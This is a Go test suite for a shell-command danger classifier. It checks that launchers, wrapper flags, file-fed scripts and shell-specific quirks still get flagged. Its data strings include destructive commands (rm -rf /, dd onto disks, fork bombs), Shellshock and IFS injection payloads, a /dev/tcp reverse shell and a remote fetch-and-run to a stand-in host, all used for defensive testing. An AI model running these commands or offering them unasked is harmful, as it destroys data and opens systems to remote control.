package touch_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/vedette-dev/vedette/sentinel/touch"
)

// dangerous lists the lines in which nothing that can't be undone is seen, and
// harmless those in which it is, or in which a person would be asked.
func dangerous(t *testing.T, lines []string) {
	t.Helper()
	for _, line := range lines {
		require.NotEmpty(t, shell(t, line).Dangers, line)
	}
}

func harmless(t *testing.T, lines []string) {
	t.Helper()
	for _, line := range lines {
		got := shell(t, line)
		require.Empty(t, got.Dangers, line)
		require.Empty(t, got.Doubts, line)
		require.Empty(t, got.Unread, line)
		require.Empty(t, got.Unparsed, line)
		require.Empty(t, got.Incomplete, line)
	}
}

// A command is the same behind whatever starts it, and what starts a harmless
// one is harmless.
func TestLaunchers(t *testing.T) {
	for _, by := range []string{
		"npx", "npx --yes", "npm exec --", "npm --prefix sub exec", "pnpm dlx", "yarn dlx", "bunx", "bun x", "uvx", "uv run",
		"uv tool run --from x", "pipx run", "poetry run", "pipenv run", "pdm run", "hatch -e x run", "pixi run",
		"conda run -n base", "micromamba run -p /opt/x", "bundle exec", "rbenv exec", "nvm exec 20", "direnv exec .", "mise exec node@20 --",
		"nix run nixpkgs#x --", "nix shell nixpkgs#x -c", "nix develop --command", "guix shell x --", "opam exec --",
		"dotenv -e .env --", "cross-env A=b", "doppler run --", "op run --env-file=x --", "chamber exec svc --", "aws-vault exec prod --",
		"teller run --",
		"tini --", "dumb-init", "catatonit --", "bwrap --ro-bind /usr /usr", "bwrap --dev-bind / /", "proot -r /", "unshare -r",
		"nsenter -t 1 -m", "setpriv --reuid 0", "runcon u:r:t", "chpst -u root", "s6-setuidgid root", "firejail --quiet",
		"systemd-run --user", "systemd-nspawn -D /x", "schroot -c x --", "arch-chroot /mnt", "start-stop-daemon -S -x /usr/bin/env --",
		"daemonize", "/lib64/ld-linux-x86-64.so.2", "ld.so --library-path /x",
		"rlwrap", "xterm -e", "gnome-terminal --", "konsole -e", "tmux new -d", "tmux split-window -h", "screen -dm", "dtach -n x",
		"zellij run --", "dbus-launch", "xvfb-run -a",
		"watchexec -e go --", "reflex -r x --", "onchange '*.go' --", "perf record -g --", "rr record", "retry -t 3 --", "tsp", "run-one", "ifne",
		"srun -n 2", "mpirun -np 2", "faketime yesterday", "choom -n 9 --",
		"pdsh -w web1", "clush -w web1", "fab -H web1 --", "heroku run", "gcloud compute ssh vm --", "adb shell", "wsl", "wsl -e", "mosh host --",
		"minikube ssh", "tsh ssh host", "ip netns exec x", "cmake -E env", "cmd /c",
		"poetry run sudo", "npx tini --", "someprogram", "./wrap.sh --", "someprogram -v sudo",
	} {
		t.Run(by, func(t *testing.T) {
			dangerous(t, []string{by + " rm -rf /", by + " dd if=/dev/zero of=/dev/sda"})
			harmless(t, []string{by + " ls -l src", by + " rm -rf build"})
		})
	}
}

// An argument that is a command line is read where the program takes one.
func TestLines(t *testing.T) {
	for _, with := range []string{
		"npx -c '%s'", "npm exec --call='%s'", "nix-shell -p x --run '%s'", "mise exec -c '%s'", "capsh -- -c '%s'", "sg root -c '%s'",
		"flock x -c '%s'", "script -qc '%s' out", "tmux new -d '%s'", "tmux send-keys -t 0 '%s' Enter", "screen -X stuff '%s'",
		"nodemon --exec '%s'", "hyperfine '%s'", "hyperfine --prepare '%s' ls", "concurrently '%s' 'ls'", "cargo watch -s '%s'",
		"mispipe '%s' cat", "sbatch --wrap='%s'", "expect -c 'spawn %s'", "doppler run --command='%s'", "sops exec-env f '%s'",
		"pssh -h hosts '%s'", "knife ssh q '%s'", "bolt command run '%s' -t all", "vagrant ssh -c '%s'", "fly ssh console -C '%s'",
		"gcloud compute ssh vm --command='%s'", "ansible all -m shell -a '%s'", "salt '*' cmd.run '%s'", "heroku run '%s' -a app",
		"socat - EXEC:'%s'", "socat SYSTEM:'%s' -", "nc -l 99 -c '%s'", "ncat -e '%s' -l 99", "az vm run-command invoke --scripts '%s'",
		"someprogram -x '%s'", "someprogram --hook='%s'", "someprogram '%s'", "parallel -j1 '%s' ::: 1", "xterm -e '%s'",
	} {
		t.Run(with, func(t *testing.T) {
			dangerous(t, []string{fmt.Sprintf(with, "rm -rf /"), fmt.Sprintf(with, "cd /tmp; sudo rm -rf ~")})
			harmless(t, []string{fmt.Sprintf(with, "ls -l src"), fmt.Sprintf(with, "rm -rf build")})
		})
	}
	dangerous(t, []string{
		"parallel 'rm -rf {}' ::: src /etc", "parallel -a <(echo /) rm -rf", "xargs -a <(echo /) rm -rf",
		"kubectl debug node/n -it --image=x -- chroot /host rm -rf /", "cmake -E remove_directory /etc", "tmux send x rm Space -rf Space / Enter",
	})
	harmless(t, []string{
		"ansible web -m file -a 'path=/tmp/x state=absent'", "parallel gzip ::: a.log b.log", "parallel echo {1} {2} ::: a b ::: c d",
		"xargs -a files.txt wc -l", "concurrently 'npm:watch-*' 'npm:serve'", "kubectl debug node/n -it --image=x",
	})
	dangerous(t, []string{`someprogram -e 'system("rm -rf /")'`, `someprogram --eval 'os.execute("sudo rm -rf /etc")'`})
	harmless(t, []string{`someprogram -e 'print("rm -rf /")'`, `someprogram -e 'system("rm -rf build")'`})
	require.Contains(t, codes(shell(t, `npm exec -c "$LINE"`).Doubts), touch.OpaqueCommand, "what is started can't be known")
}

func codes(list []touch.Danger) (out []string) {
	for _, d := range list {
		out = append(out, d.Code)
	}
	return out
}

// Text about a command is no command, whoever is told it.
func TestText(t *testing.T) {
	for _, say := range []string{
		"git commit -m %s", "git tag -a v1 -m %s", "git log --grep=%s", "git log -S%s", "git grep %s", "grep -rn %s .", "rg %s", "ag %s src",
		"sed -n /x/p %s", "jq -n --arg a %s .", "echo %s", "printf '%%s' %s", "logger %s", "wall %s", "say %s", "notify-send t %s",
		"gh issue create --title %s --body x", "glab mr note 3 -m %s", "todo add %s", "cowsay %s", "mail -s %s bob@example.com",
		"slack chat send %s", "llm %s", "curl -d %s https://a.example", "test %s = x", "journalctl -g %s", "read -p %s a",
		"someprogram --message %s", "someprogram --title=%s", "npm version patch -m %s", "hg commit -m %s", "pytest --deselect x -m %s",
		"expr %s : x", "zenity --question --text=%s",
	} {
		harmless(t, []string{fmt.Sprintf(say, `"rm -rf /"`), fmt.Sprintf(say, `"dd if=/dev/zero of=/dev/sda"`)})
	}
	harmless(t, []string{
		"man rm", "which mkfs.ext4 mkfs.xfs dd", "tldr rm", "apt install coreutils dd rm", "dpkg -S /bin/rm", "cowsay rm -rf /",
		"someprogram check mkfs.ext4 parted dd", "someprogram 'the line rm -rf / is never run'", "someprogram rm my-item",
		"someprogram find users --name bob", "command -v rm", "complete -F _rm rm", "history 5",
	})
}

// Reading guesses takes time in proportion to the line, however they nest.
func TestGuessesAreBounded(t *testing.T) {
	for _, unit := range []string{"foo rm -rf x ", "sudo foo ", "foo sudo ", "npx ", "git bisect run ", "cmake -E env ", "foo 'rm x' ",
		"hyperfine 'a b' ", "tmux send-keys 'rm x' ", "echo x >> a; sh a; ", "alias a='a a'; a x; ", "EDITOR='rm x' foo; ",
		"ln -s a b; rm b/x; "} {
		small := testing.AllocsPerRun(1, func() { shell(t, strings.Repeat(unit, 4<<10/len(unit))) })
		large := testing.AllocsPerRun(1, func() { shell(t, strings.Repeat(unit, 32<<10/len(unit))) })
		require.Less(t, large, 24*small+10_000, unit)
	}
}

// What a line tells a program by a file of its own making runs as if the line
// said it.
func TestToldByFile(t *testing.T) {
	dangerous(t, []string{
		`just -f <(printf 'a:\n  rm -rf /\n') a`, `ninja -f <(printf 'rule r\n command = rm -rf /home\n')`,
		`ansible-playbook <(echo '[{tasks: [{command: "rm -rf /"}]}]')`,
		`echo '{"scripts":{"a":"rm -rf /"}}' > package.json; npm run a`, `npm pkg set scripts.a='rm -rf ~' && npm run a`,
		`printf '//go:generate rm -rf /\n' > a.go; go generate a.go`,
		`go test -exec 'rm -rf /' ./...`, `tox -x testenv.commands='rm -rf /'`, `cargo --config "target.x.runner='rm -rf /'" run`,
		`CARGO_TARGET_X_RUNNER='rm -rf /' cargo run`,
		`uv run -c 'import shutil;shutil.rmtree("/")'`, `uv run - <<< 'import shutil;shutil.rmtree("/")'`,
		`python3 -m timeit -s 'import os' 'os.system("rm -rf /")'`, `python3 -W ignore -c 'import shutil;shutil.rmtree("/usr")'`,
		`pdflatex '\write18{rm -rf /}'`, `nroff -U <<< '.sy rm -rf /'`, `ssh h bash -s <<< 'rm -rf /home'`,
		`sqlite3 x.db 'select edit("a","rm -rf /")'`, `redis-cli eval 'os.execute("rm -rf /")' 0`,
		`salt '*' file.remove /`, `find /usr -exec sh -c 'rm -rf "$0"' {} \;`, `find /usr -type f -exec truncate -s0 {} +`,
		`rg --files / | xargs rm`,
	})
	harmless(t, []string{
		`just -f <(printf 'a:\n  rm -rf build\n') a`, `printf '# never rm -rf /\na:\n\techo b\n' > justfile; just a`,
		`cmake -P <(echo 'file(REMOVE_RECURSE build)')`, `echo '{"scripts":{"a":"rm -rf dist"}}' > package.json; npm run a`,
		`go test -exec 'qemu-arm' ./...`, `tox -x testenv.commands='pytest -q'`, `CARGO_TARGET_X_RUNNER=qemu-arm cargo run`,
		`mvn exec:exec -Dexec.executable=java -Dexec.args="-jar a.jar"`, `uv run -c 'print(1)'`,
		`python3 -m timeit -s 'import shutil' 'shutil.which("rm")'`, `python3 -W ignore -c 'print(1)'`, `pdflatex -shell-escape a.tex`,
		`salt '*' file.remove /tmp/a`, `find . -exec sh -c 'mv "$0" "${0%.a}.b"' {} \;`, `redis-cli eval 'return 1' 0`,
	})
}

// Shells have more ways to keep a line, to split a word, and to name a program
// than one of them shows.
func TestOtherShells(t *testing.T) {
	dangerous(t, []string{
		"IFS=,; c=rm,-rf,/; $c", `IFS=_; set -- $(echo rm_-rf_/); "$@"`, `x='$(rm -rf /)'; echo "${x@P}"`, `x='a[$(rm -rf /)]'; echo $((x))`,
		"let 'a[$(rm -rf /)]=1'", "trap -- 'rm -rf /home' ERR", `mapfile -C 'rm -rf /' -c 1 < a`,
		"complete -C 'rm -rf /' a", "fc -s rm -rf /", "bash --rcfile <(echo 'rm -rf /') -i", "BASH_ENV='$(rm -rf /)' bash -c :",
		"env 'BASH_FUNC_a%%=() { rm -rf /; }' bash -c a", "env x='() { :;}; rm -rf /' bash -c :",
		`env -S'rm\_-rf\_/'`, "script -q /dev/null rm -rf /", "CDPATH=/ cd home && rm -rf *", "fish -C 'rm -rf /'", "fish -c 'rm -rf (echo /)'",
		"zsh -c '=rm -rf /'",
		`zsh -c 'echo *(e:"rm -rf /":)'`, "zsh -c 'for d (/ /home) rm -rf $d'", `tcsh -c 'alias x "rm -rf /"; x'`, "nu -c '^rm -rf /'",
		"elvish -c 'e:rm -rf /'", "podman unshare rm -rf /home",
		"rm -rf /mnt/c/Windows", "rm -rf /cygdrive/c", "pwsh -c 'while(1){start powershell}'", "chmod 000 /", "pkill -9 -u 0", "fuser -km /home",
		"stress-ng --fork 0", "git --work-tree=/ rm -rf .", "GIT_WORK_TREE=/ git clean -fdx",
	})
	for _, line := range []string{`powershell "iex (iwr http://a.example/x)"`,
		`python3 -c 'import pickle,base64;pickle.loads(base64.b64decode("Y3A="))'`} {
		require.Contains(t, codes(shell(t, line).Unread), touch.UnreadCode, line)
	}
	doubted(t, touch.OpaqueCommand, []string{"bash -i >& /dev/tcp/a.example/1 0>&1", "enable -f /tmp/a.so a"}, []string{
		`pwsh -c 'Invoke-WebRequest https://a.example -OutFile a'`, "echo a > /dev/tcp/a.example/1", "enable -n test",
		`python3 -c 'import pickle; print(pickle.load(open("a.pkl","rb")))'`,
		`IFS=: read -ra p <<< "$PATH"`, `IFS=_; set -- $(echo a_b_c); echo $2`, `PS1='\u@\h'; echo "${PS1@P}"`, "x='a[0]'; echo $((x))",
		"let 'a[0]=1'", "trap -- 'echo done' EXIT", "complete -C aws_completer aws", "bash --rcfile <(echo 'PS1=x') -i",
		"env 'F=() { :; }' true", "fish -c 'for f in *.log; rm $f; end'", "fish -c 'set x (date); echo $x'", "zsh -c 'print -l *(.om[1,5])'",
		"zsh -c 'for f (*.txt) echo $f'", "rm -rf /mnt/c/Users/dev/a/build", "mknod p p; echo a > p", "chmod 000 a", "pkill -u dev node",
		"fuser -k 8080/tcp",
		"stress-ng --fork 4 --timeout 10s", "git -C sub clean -fd", "git --work-tree=/workspace/site checkout -f main",
	})
}
